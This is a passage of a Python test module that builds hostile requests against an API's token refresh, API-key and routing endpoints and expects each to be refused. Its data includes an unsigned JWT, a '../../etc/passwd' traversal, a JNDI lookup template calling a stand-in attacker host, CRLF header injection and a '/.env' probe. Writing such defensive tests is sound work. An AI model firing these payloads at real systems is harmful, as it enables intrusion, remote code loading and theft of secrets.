        "a token of no algorithm": "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
        "an escape": "%00",
        "no ASCII": "é" * 100,
    }.items():
        yield HostileRequest(
            f"{name} as a refresh token",
            "POST",
            "/v1/auth/refresh",
            401,
            "unauthenticated",
            _encode({"refresh_token": token}),
            _JSON,
        )
    yield _post("a password of 14 characters", "/v1/auth/signup", good | {"password": "x" * 14}, "password")


def _api_keys() -> Iterator[HostileRequest]:
    good: Json = {"name": "ci"}
    for name, (fields, param) in {
        "a scope that nobody knows": ({"scopes": ["admin"]}, "scopes[0]"),
        "all scopes at once": ({"scopes": ["*"]}, "scopes[0]"),
        "no scope": ({"scopes": []}, "scopes"),
        "a model that is a path": ({"models": ["../../etc/passwd"]}, "models[0]"),
        "a model that is a wildcard": ({"models": ["*"]}, "models[0]"),
        "no model": ({"models": []}, "models"),
        "101 models": ({"models": ["ada:latest"] * 101}, "models"),
        "a time that is over": ({"expires_at": "2020-01-01T00:00:00Z"}, "expires_at"),
        "a time without a zone": ({"expires_at": "2099-01-01T00:00:00"}, "expires_at"),
        "a day": ({"expires_at": "2099-01-01"}, "expires_at"),
        "a time as a number": ({"expires_at": 4_070_908_800}, "expires_at"),
        "a day that is none": ({"expires_at": "2099-02-30T00:00:00Z"}, "expires_at"),
        "a time before all others": ({"expires_at": "0001-01-01T00:00:00+23:59"}, "expires_at"),
        "a time behind all others": ({"expires_at": "9999-12-31T23:59:59-23:59"}, "expires_at"),
        "a year of five digits": ({"expires_at": "10000-01-01T00:00:00Z"}, "expires_at"),
        "a limit of nothing": ({"limits": {"requests_per_minute": 0}}, "limits.requests_per_minute"),
        "a negative limit": ({"limits": {"tokens_per_minute": -1}}, "limits.tokens_per_minute"),
        "a limit beyond any": ({"limits": {"concurrent_jobs": 10**30}}, "limits.concurrent_jobs"),
        "a limit as text": ({"limits": {"open_streams": "5"}}, "limits.open_streams"),
        "a limit that is a fraction": ({"limits": {"open_streams": 1.5}}, "limits.open_streams"),
        "a priority that nobody knows": ({"limits": {"priority": "urgent"}}, "limits.priority"),
        "an unknown limit": ({"limits": {"gpus": 1}}, "limits.gpus"),
        "an owner of one's own": ({"user_id": new_id()}, "user_id"),
        "a key of one's own": ({"key": "sk-ds-0000000000000000"}, "key"),
    }.items():
        yield _post(f"{name} for POST /v1/api-keys", "/v1/api-keys", good | fields, param)


def _paths() -> Iterator[HostileRequest]:
    for name, path in {
        "the root": "/",
        "nothing below /v1": "/v1",
        "another version": "/v2/chat",
        "another case": "/V1/models",
        "two slashes in front": "//v1/models",
        "two slashes in the middle": "/v1//models",
        "a slash at the end": "/v1/models/",
        "a slash as an escape": "/v1%2fmodels",
        "a letter as an escape": "/v1/%6dodels",
        "two dots as escapes": "/v1/chat/%2e%2e/models",
        "a backslash": "/v1\\models",
        "a parameter of the path": "/v1/models;x=1",
        "NUL": "/v1/models%00",
        "a line end": "/v1/models%0d%0aX:%20y",
        "no UTF-8": "/%ff",
        "half an escape": "/v1/models%",
        "a file of ours": "/.env",
        "a template": "/${jndi:ldap://evil.example.org/a}",
        "20,000 characters": "/" + "x" * 20_000,
        "10,000 directories": "/a" * 10_000,
    }.items():
        yield HostileRequest(f"{name} for a path", "GET", path, 404, "not_found")


def _post(name: str, path: str, body: Json, param: str) -> HostileRequest:
    return HostileRequest(name, "POST", path, 422, "invalid_request", _encode(body), _JSON, param)


def _encode(body: Json) -> bytes:
    return msgspec.json.encode(body)
